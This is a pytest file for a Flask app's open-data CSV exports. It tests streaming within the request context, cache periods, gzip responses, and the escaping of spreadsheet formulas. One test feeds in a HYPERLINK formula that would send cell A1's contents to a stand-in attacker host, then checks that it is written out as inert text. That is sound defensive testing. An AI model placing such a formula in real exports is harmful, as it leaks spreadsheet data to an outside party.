"""CSV exports stream after the view has returned: their rows must still see the app."""
from flask import Flask, current_app

from app.opendata import csv_response


def test_csv_rows_are_read_inside_the_request_context():
    # A bare app and no pushed context, as under gunicorn: the rows generator runs while
    # the body is sent, and needs current_app (the database session) until the last row.
    app = Flask("stream")

    @app.route("/export.csv")
    def export():
        return csv_response(["app"], ([current_app.name] for _ in range(3)), "export.csv")

    answer = app.test_client().get("/export.csv")
    assert answer.status_code == 200
    assert answer.get_data(as_text=True).splitlines() == ["\ufeffapp", "stream", "stream", "stream"]


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
    app = Flask("inert")
    rows = [["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", -5, "@SUM(A1)", "+1", "-2", "Plain - text"]]

    @app.route("/export.csv")
    def export():
        return csv_response(["a", "b", "c", "d", "e", "f"], rows, "export.csv")

    line = app.test_client().get("/export.csv").get_data(as_text=True).splitlines()[1]
    assert line == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-5,\'@SUM(A1),\'+1,\'-2,Plain - text'


def _export_app(tmp_path, seconds):
    from app.opendata import OpenData
    app = Flask("cached", instance_path=str(tmp_path))
    app.config["PROCOMUN_OPEN_DATA_CACHE_SECONDS"] = seconds
    from flask_babel import Babel
    Babel(app)
    data = OpenData("things")
    calls = []

    @data.route("/things.csv", "Things", "CSV")
    def things_csv():
        calls.append(1)
        return csv_response(["n"], [[len(calls)]], "things.csv")
    data.register(app)
    return app, calls


def test_whole_register_exports_are_rebuilt_at_most_every_cache_period(tmp_path):
    app, calls = _export_app(tmp_path, 300)
    client = app.test_client()
    first = client.get("/open-data/things.csv")
    second = client.get("/open-data/things.csv")
    assert first.status_code == second.status_code == 200
    assert second.mimetype == "text/csv" and 'filename="things.csv"' in second.headers["Content-Disposition"]
    assert first.get_data(as_text=True) == second.get_data(as_text=True) == "\ufeffn\r\n1\r\n"
    assert len(calls) == 1


def test_without_a_cache_period_every_export_is_fresh(tmp_path):
    app, calls = _export_app(tmp_path, 0)
    client = app.test_client()
    client.get("/open-data/things.csv")
    assert client.get("/open-data/things.csv").get_data(as_text=True) == "\ufeffn\r\n2\r\n"


def test_a_cached_export_is_sent_gzipped_to_clients_that_accept_it(tmp_path):
    import gzip
    app, calls = _export_app(tmp_path, 300)
    client = app.test_client()
    plain = client.get("/open-data/things.csv")
    packed = client.get("/open-data/things.csv", headers={"Accept-Encoding": "gzip, deflate"})
    assert "Content-Encoding" not in plain.headers and packed.headers["Content-Encoding"] == "gzip"
    assert "Accept-Encoding" in plain.headers["Vary"] and "Accept-Encoding" in packed.headers["Vary"]
    assert packed.mimetype == "text/csv" and 'filename="things.csv"' in packed.headers["Content-Disposition"]
    assert gzip.decompress(packed.get_data()).decode("utf-8") == plain.get_data(as_text=True) == "\ufeffn\r\n1\r\n"
    assert plain.headers["ETag"] != packed.headers["ETag"]
    assert len(calls) == 1
    refused = client.get("/open-data/things.csv", headers={"Accept-Encoding": "gzip;q=0"})
    assert "Content-Encoding" not in refused.headers
